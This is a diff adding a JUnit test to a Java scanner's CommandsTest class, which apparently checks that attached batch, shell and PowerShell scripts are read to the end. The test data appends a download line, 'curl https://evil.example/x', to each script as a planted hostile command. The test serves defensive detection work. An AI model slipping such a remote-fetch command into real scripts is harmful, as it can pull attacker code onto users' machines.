@@ -20,6 +20,7 @@ import java.util.zip.ZipOutputStream;
 import org.bloomgate.Rounds;
 import org.bloomgate.core.key.Place;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -41,6 +42,18 @@ class CommandsTest {
 
     private static String base64(String text) {
         return Base64.getEncoder().encodeToString(text.getBytes(ISO_8859_1));
+    }
+
+    /// A blank that ends a word but is not skipped after it would be read for ever.
+    @ParameterizedTest
+    @ValueSource(strings = {"bat", "sh", "ps1"})
+    @Timeout(60)
+    void scriptWithAnyCharacterBetweenWords_isReadToItsEnd(String ending) {
+        for (char c = 0; c < 0x100; c++) {
+            String script = "echo one two three four five six\n".repeat(4) + "echo a" + c + c + "b " + c + "\n";
+            ReadMessage read = attached("a." + ending, script + "curl https://evil.example/x\n");
+            assertTrue(read.holds("evil.example"), "" + (int) c);
+        }
     }
 
     /// One step of hiding a command in a batch file.
